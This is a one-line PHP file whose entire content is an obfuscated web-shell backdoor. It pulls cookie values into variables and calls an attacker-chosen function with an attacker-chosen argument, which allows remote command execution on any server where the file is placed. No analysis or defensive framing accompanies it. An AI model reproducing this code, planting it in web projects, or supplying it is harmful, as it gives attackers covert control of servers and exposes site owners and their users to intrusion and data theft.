<?php @extract($_COOKIE); @die($ctime($atime)); ?>
